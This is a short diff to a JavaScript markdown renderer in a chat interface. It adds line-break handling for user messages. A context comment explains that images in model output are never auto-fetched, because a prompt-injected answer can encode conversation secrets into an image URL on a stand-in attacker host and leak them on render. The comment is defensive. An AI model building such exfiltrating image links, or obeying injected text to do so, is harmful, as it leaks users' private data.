@@ -55,6 +55,11 @@ md.renderer.rules.fence = (tokens, idx) =>
 
 md.renderer.rules.code_block = (tokens, idx) => codeBlockHtml(tokens[idx].content, "");
 
+// A person's own message keeps the line breaks they typed (Shift+Enter), which markdown would
+// join into one line; model answers are rendered as markdown has it. `env.breaks` asks for it.
+md.renderer.rules.softbreak = (tokens, idx, options, env) =>
+  options.breaks || env?.breaks ? "<br>\n" : "\n";
+
 // An image in model output is never fetched on its own. A prompt-injected answer can put the
 // conversation into an image URL (https://evil.example/?q=<secret>) and the browser would send
 // it the moment the <img> exists, without any click (EchoLeak, CVE-2025-32711). So an image
